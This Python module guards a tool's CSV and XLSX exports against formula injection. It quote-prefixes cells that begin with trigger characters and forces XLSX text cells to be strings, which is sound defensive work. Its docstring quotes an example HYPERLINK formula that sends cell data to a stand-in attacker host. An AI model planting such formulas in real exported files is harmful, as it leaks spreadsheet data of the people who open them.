"""Spreadsheet-safe cells: no exported text may run as a formula (CSV/formula injection).

A product, competitor or supplier name comes from an uploaded file; one that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return runs as a formula when the CSV is
opened in Excel or LibreOffice (``=HYPERLINK("http://evil.example/?x="&A2, ...)``), and
openpyxl stores a value starting with ``=`` as a formula. Following OWASP's CSV
injection guidance, such text gets a leading ``'`` in CSV files; in XLSX files every
text cell is written with data type ``s`` (a string, never a formula) and a dangerous
one also gets Excel's quote prefix, so editing the cell keeps it text.

Every writer of CSV or XLSX files that may hold user data calls this module: the CLI's
``levelfield export`` (:func:`levelfield.report.export_tables`) and the web downloads.

References
----------
OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pandas as pd

__all__ = ["FORMULA_TRIGGERS", "is_dangerous_text", "safe_cell", "safe_frame", "write_safe_xlsx"]

#: First characters that make a spreadsheet evaluate a cell (OWASP), plus the
#: full-width forms some locales of Excel accept as the same operators.
FORMULA_TRIGGERS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
# A plain number with a sign ("-12.50", "+3") is read as a number, never as a formula.
_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")


def is_dangerous_text(value: str) -> bool:
    """Whether ``value`` would be read as a formula (leading spaces are skipped)."""
    stripped = value.lstrip(" \u00a0")
    if not stripped:
        return False
    return stripped[0] in FORMULA_TRIGGERS and not _NUMBER.fullmatch(stripped)


def safe_cell(value: Any) -> Any:
    """``value`` with a ``'`` prepended when it is text a spreadsheet would evaluate.

    Non-text values are returned unchanged.
    """
    if isinstance(value, str) and is_dangerous_text(value):
        return "'" + value
    return value


def _text_columns(frame: pd.DataFrame) -> list[Any]:
    return [
        c
        for c in frame.columns
        if frame[c].dtype == object
        or isinstance(frame[c].dtype, pd.StringDtype | pd.CategoricalDtype)
    ]


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are safe to write as CSV."""
    out = frame.copy()
    for col in _text_columns(out):
        s = out[col]
        if isinstance(s.dtype, pd.CategoricalDtype):
            s = s.astype(object)
        out[col] = s.map(safe_cell, na_action="ignore")
    out.columns = [safe_cell(str(c)) if isinstance(c, str) else c for c in out.columns]
    return out


def write_safe_xlsx(path: str | Path, sheets: Mapping[str, pd.DataFrame]) -> Path:
    """Write each frame to a sheet of ``path``; text cells are strings, never formulas.

    Parameters
    ----------
    path
        The ``.xlsx`` file to write.
    sheets
        Frames by sheet name (names must already be valid Excel sheet names).
    """
    p = Path(path)
    with pd.ExcelWriter(p, engine="openpyxl") as writer:
        for name, frame in sheets.items():
            frame.to_excel(writer, sheet_name=name, index=False)
            _force_text(writer.sheets[name])
    return p


def _force_text(sheet: Any) -> None:
    # openpyxl types a str starting with "=" as a formula ("f"): make every text cell a
    # plain string, and quote-prefix the dangerous ones so editing them keeps them text.
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
                if is_dangerous_text(cell.value):
                    cell.quotePrefix = True
